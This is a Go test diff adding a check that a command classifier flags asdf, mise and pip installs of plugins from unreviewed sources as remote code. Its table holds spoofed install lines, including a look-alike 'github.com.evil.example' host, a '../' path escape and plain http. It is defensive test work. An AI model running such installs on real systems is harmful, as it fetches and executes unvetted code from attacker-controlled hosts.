@@ -79,3 +79,26 @@ func TestKnownPerformanceTools(t *testing.T) {
 		t.Errorf("buf lint and generate publish nothing")
 	}
 }
+
+// TestKnownPluginRepository: asdf's and mise's plugins from the asdf
+// project's own organisations are known; another owner's, a look-alike
+// host, a user, a port, a parent step or plain http are code nobody here
+// has read.
+func TestKnownPluginRepository(t *testing.T) {
+	for line, want := range map[string]bool{
+		"asdf plugin add golang https://github.com/asdf-community/asdf-golang.git": false,
+		"mise plugin add golang https://github.com/asdf-community/asdf-golang.git": false,
+		"asdf plugin add nodejs https://github.com/asdf-vm/asdf-nodejs.git":        false,
+		"asdf plugin add tf https://github.com/someone/asdf-terraform.git":         true,
+		"asdf plugin add x https://github.com.evil.example/asdf-community/x":       true,
+		"asdf plugin add x https://github.com/asdf-community/../someone/x.git":     true,
+		"asdf plugin add x https://github.com:8443/asdf-community/x.git":           true,
+		"asdf plugin add x https://me@github.com/asdf-community/x.git":             true,
+		"asdf plugin add x http://github.com/asdf-community/x.git":                 true,
+		"pip install https://github.com/asdf-community/x/archive/main.zip":         true,
+	} {
+		if got := hasEffect(effectsOf(line), "remote-code:package"); got != want {
+			t.Errorf("%q: remote-code:package = %v, want %v (%v)", line, got, want, effectsOf(line))
+		}
+	}
+}
